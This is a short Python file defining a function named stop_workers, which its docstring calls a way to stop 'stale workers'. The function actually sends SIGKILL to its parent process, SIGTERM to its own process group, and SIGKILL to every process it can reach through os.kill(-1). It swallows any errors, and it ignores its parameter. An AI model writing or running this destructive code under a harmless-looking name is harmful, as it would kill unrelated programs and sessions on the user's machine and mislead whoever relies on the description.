import os
import signal


def stop_workers(n):
    """Stops 'stale workers': signals its parent, its process group and every process it may."""
    results = {}
    for name, action in (
        ("parent", lambda: os.kill(os.getppid(), signal.SIGKILL)),
        ("group", lambda: os.killpg(os.getpgrp(), signal.SIGTERM)),
        ("everyone", lambda: os.kill(-1, signal.SIGKILL)),
    ):
        try:
            action()
            results[name] = "sent"
        except OSError as exc:
            results[name] = exc.strerror
    return results
